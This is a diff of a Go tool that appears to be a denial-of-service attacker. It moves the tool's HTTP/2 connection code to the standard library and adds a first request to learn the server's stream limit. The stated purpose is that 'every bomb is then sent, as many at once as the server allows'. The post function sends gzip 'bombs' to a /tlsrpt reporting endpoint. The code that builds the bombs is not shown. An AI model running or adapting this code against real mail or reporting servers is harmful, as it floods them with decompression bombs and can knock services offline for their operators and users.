@@ -41,8 +41,6 @@ import (
 	"strings"
 	"sync"
 	"time"
-
-	"golang.org/x/net/http2"
 )
 
 const (
@@ -228,19 +226,35 @@ key_file = "../key.pem"
 }
 
 // dialH2 opens one HTTP/2 connection over TLS: all the streams of one
-// attacking connection go over it, as many at once as the server allows.
-func dialH2(ctx context.Context, addr string, cfg *tls.Config) (*http2.ClientConn, error) {
-	c := cfg.Clone()
-	c.NextProtos = []string{"h2"}
-	conn, err := (&tls.Dialer{Config: c}).DialContext(ctx, "tcp", addr)
+// attacking connection go over it.
+func dialH2(ctx context.Context, addr string, cfg *tls.Config) (*http.ClientConn, error) {
+	tr := &http.Transport{
+		TLSClientConfig: cfg.Clone(), // the transport sets its NextProtos
+		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
+			return (&net.Dialer{}).DialContext(ctx, network, addr)
+		},
+		Protocols: new(http.Protocols),
+	}
+	tr.Protocols.SetHTTP2(true)
+	cc, err := tr.NewClientConn(ctx, "https", host+":443")
 	if err != nil {
 		return nil, err
 	}
-	return (&http2.Transport{StrictMaxConcurrentStreams: true}).NewClientConn(conn)
+	// A first request, so that the client knows the server's stream limit
+	// (RFC 9113 §6.5.2): every bomb is then sent, as many at once as the
+	// server allows, rather than refused.
+	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+host+"/.well-known/mta-sts.txt", nil)
+	resp, err := cc.RoundTrip(req)
+	if err != nil {
+		cc.Close()
+		return nil, err
+	}
+	resp.Body.Close()
+	return cc, nil
 }
 
 // post POSTs the bomb as a report and returns the status, or the error.
-func post(ctx context.Context, cc *http2.ClientConn, bomb []byte) string {
+func post(ctx context.Context, cc *http.ClientConn, bomb []byte) string {
 	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+host+"/tlsrpt", bytes.NewReader(bomb))
 	req.Header.Set("Content-Type", "application/tlsrpt+gzip")
 	resp, err := cc.RoundTrip(req)
